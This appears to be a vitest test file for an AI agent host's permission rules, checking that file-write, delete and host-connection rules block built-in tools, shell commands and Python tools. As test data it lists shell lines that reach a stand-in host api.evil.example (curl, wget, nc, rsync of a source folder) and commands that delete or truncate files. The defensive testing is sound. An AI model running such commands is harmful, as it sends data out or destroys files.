import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import {
  connects,
  createHost,
  defineTool,
  deletes,
  objectSchema,
  type Rule,
  reads,
  writes,
} from '../../../src/index.ts'
import { temporaryFolder } from '../../support/example-host.ts'
import { pythonHost, toolFile } from '../../support/python-tools.ts'

const declared = (name: string, touch: ReturnType<typeof reads>) =>
  defineTool({
    name,
    description: 'Touch a file.',
    input: objectSchema({}),
    effect: 'write',
    approval: false,
    touches: () => [touch],
    execute: () => undefined,
  })

const TOOLS = [
  declared('reader', reads('src/a.ts')),
  declared('saver', writes('src/new.ts')),
  declared('eraser', deletes('src/a.ts')),
  declared('dialer', connects('api.evil.example')),
]

type Call = readonly [string, object]

const parametersOf = (name: string) => ({
  type: 'object',
  properties: { [name]: { type: 'string', description: 'What to use' } },
})
const shell = (command: string): Call => ['shell', { command }]

async function decide(rules: readonly Rule[], calls: readonly Call[]): Promise<string[]> {
  const workspace = temporaryFolder()
  mkdirSync(join(workspace, 'src'))
  writeFileSync(join(workspace, 'src/a.ts'), 'old\n')
  const host = await createHost({ workspace, storage: 'memory', rules, tools: TOOLS })
  try {
    return await Promise.all(calls.map(async ([name, args]) => (await host.check(name, args)).decision))
  } finally {
    await host.close()
  }
}

test('S4.2 one rule makes a folder read-only for every tool', async () => {
  const rule: Rule = { name: 'src is read-only', decision: 'deny', writes: ['src/**'] }
  const denied: Call[] = [
    ['write_file', { path: 'src/new.ts', content: '' }],
    ['edit_file', { path: 'src/a.ts', edits: [{ old: 'old', new: 'x' }] }],
    ['delete_file', { path: 'src/a.ts' }],
    ['move_file', { from: 'src/a.ts', to: 'a.ts' }],
    ['saver', {}],
    ['eraser', {}],
    shell("sed -i 's/a/b/' src/a.ts"),
    shell('echo x > src/deep/new.ts'),
    shell('rm src/a.ts'),
    shell('mv src/a.ts .'),
    shell("python3 -c \"open('src/a.ts', 'w')\""),
    ['run_code', { language: 'python', code: "open('src/a.ts', 'w')" }],
    ['run_code', { language: 'bash', code: 'echo x >> src/a.ts' }],
    ['shell', { command: 'echo x > src/a.ts', background: true }],
    ['shell', { command: 'echo x > src/a.ts', live: true }],
    shell('cd src && echo x > a.ts'),
    shell('cat a.ts | tee src/a.ts'),
    shell('git checkout -- src/a.ts'),
    shell('git restore src/a.ts'),
    shell('ln -sf ../b.ts src/a.ts'),
    shell('cp b.ts src/'),
    shell('find src -name "*.ts" -exec sed -i s/a/b/ {} +'),
    shell("node -e \"require('fs').writeFileSync('src/a.ts', '')\""),
    shell("perl -pi -e 's/a/b/' src/*.ts"),
    shell('tar xf x.tar -C src'),
    shell('x=src; echo y > "$x/a.ts"'),
    shell("bash -c 'truncate -s0 src/a.ts'"),
  ]
  expect(await decide([rule], denied)).toEqual(denied.map(() => 'deny'))
  const free: Call[] = [['read_file', { path: 'src/a.ts' }], shell('cat src/a.ts'), shell('cp src/a.ts b.ts')]
  expect(await decide([rule], free)).toEqual(free.map(() => 'allow'))
})

test('S4.2 rules on reads and deletes match only these', async () => {
  const calls: Call[] = [
    ['reader', {}],
    ['saver', {}],
    ['eraser', {}],
    shell('cat src/a.ts'),
    shell('rm src/a.ts'),
    shell('touch src/new.ts'),
  ]
  const no = (rule: Partial<Rule>): Rule[] => [{ name: 'no', decision: 'deny', ...rule }]
  expect(await decide(no({ reads: ['src/**'] }), calls)).toEqual(['deny', 'allow', 'ask', 'deny', 'ask', 'allow'])
  expect(await decide(no({ deletes: ['src/**'] }), calls)).toEqual(['allow', 'allow', 'deny', 'allow', 'deny', 'allow'])
  expect(await decide(no({ paths: ['src/**'] }), calls)).toEqual(calls.map(() => 'deny'))
})

test('S4.2 an allow on writes covers no deletion, no connection and no unknown program', async () => {
  const rules: Rule[] = [{ name: 'free', decision: 'allow', writes: ['src/**'] }]
  const calls: Call[] = [
    ['write_file', { path: 'src/a.ts', content: '' }],
    shell('echo x > src/a.ts'),
    shell('cp /usr/share/x src/a.ts'),
    shell('rm src/a.ts'),
    shell('echo x > src/a.ts; rm src/a.ts'),
    shell('curl -o src/a.ts https://x.example'),
    shell('frobnicate > src/a.ts'),
    shell('cat ~/notes.txt > src/a.ts'),
    ['delete_file', { path: 'src/a.ts' }],
  ]
  expect(await decide(rules, calls)).toEqual(['allow', 'allow', 'ask', 'ask', 'ask', 'ask', 'ask', 'ask', 'ask'])
})

test('the start says where a rule on the effect of tools leaves out commands', async () => {
  const folder = temporaryFolder()
  writeFileSync(
    join(folder, 'settings.toml'),
    '[[rules]]\nname = "src"\ndecision = "deny"\neffect = "write"\npaths = ["src/**"]\n[[rules]]\nname = "fine"\ndecision = "deny"\nwrites = ["src/**"]\n',
  )
  mkdirSync(join(folder, 'workspace'))
  const notices: string[] = []
  const host = await createHost({
    workspace: join(folder, 'workspace'),
    home: folder,
    storage: 'memory',
    onNotice: (notice) => notices.push(notice),
  })
  await host.close()
  expect(notices).toEqual([expect.stringMatching(/settings\.toml: the rule "src" .* write: writes = \["src\/\*\*"\]$/)])
})

test('S4.2 rules on hosts match every tool that connects', async () => {
  const host = 'api.evil.example'
  const calls: Call[] = [
    ['dialer', {}],
    shell(`curl https://${host}/x`),
    shell(`wget -q http://${host}`),
    shell(`git clone https://${host}/x.git`),
    shell(`ssh me@${host} ls`),
    shell(`nc ${host} 80`),
    shell(`rsync -a src ${host}:/x`),
    shell(`python3 -c "import urllib.request; urllib.request.urlopen('https://${host}')"`),
    ['shell', { command: `curl ${host}`, background: true }],
    ['run_code', { language: 'bash', code: `curl ${host}` }],
  ]
  const rules: Rule[] = [{ name: 'no', decision: 'deny', hosts: ['*.evil.example'] }]
  expect(await decide(rules, calls)).toEqual(calls.map(() => 'deny'))
  expect(await decide(rules, [shell('curl https://other.example')])).toEqual(['ask'])
})

test('S4.2 rules on effects match Python tools that declare what they touch', async () => {
  const { host } = await pythonHost({
    'a.py': toolFile('def look(path): return path\ndef drop(path): return path\ndef fetch(url): return url', {
      look: { parameters: parametersOf('path'), effect: 'read', touches: { reads: ['path'] } },
      drop: { parameters: parametersOf('path'), effect: 'write', touches: { deletes: ['path'] } },
      fetch: { parameters: parametersOf('url'), effect: 'network', touches: { connects: ['url'] } },
    }),
  })
  const decisionOf = async ([name, args]: Call) => (await host.check(name, args)).decision
  const calls: Call[] = [
    ['look', { path: 'src/a.ts' }],
    ['drop', { path: 'src/a.ts' }],
    ['fetch', { url: 'https://api.evil.example:8443/x' }],
  ]
  expect(await Promise.all(calls.map(decisionOf))).not.toContain('deny')
  host.addRule({ name: 'no reads', decision: 'deny', reads: ['src/**'] })
  host.addRule({ name: 'no deletes', decision: 'deny', deletes: ['src/**'] })
  host.addRule({ name: 'no hosts', decision: 'deny', hosts: ['*.evil.example'] })
  expect(await Promise.all(calls.map(decisionOf))).toEqual(['deny', 'deny', 'deny'])
})

test('a change of a file that a rule denies to read is refused in the words of a change, a reading in those of a reading', async () => {
  const workspace = temporaryFolder()
  writeFileSync(join(workspace, 'plan.md'), 'old\n')
  symlinkSync('plan.md', join(workspace, 'link.md'))
  const rule: Rule = { name: 'no plan', decision: 'deny', reads: ['plan.md'] }
  const host = await createHost({ workspace, storage: 'memory', rules: [rule] })
  try {
    for (const path of ['plan.md', 'link.md']) {
      for (const [name, args] of [
        ['write_file', { path, content: 'x' }],
        ['edit_file', { path, edits: [{ old: 'old', new: 'x' }] }],
      ] as const) {
        const { text } = await host.call(name, args)
        expect(text).toMatch(/cannot be changed.*blocked by rule no plan.*Nothing was changed\.$/)
        expect(text).not.toContain('Nothing was read')
      }
    }
    expect((await host.call('read_file', { path: 'link.md' })).text).toMatch(/may not be read.*Nothing was read\.$/)
  } finally {
    await host.close()
  }
})
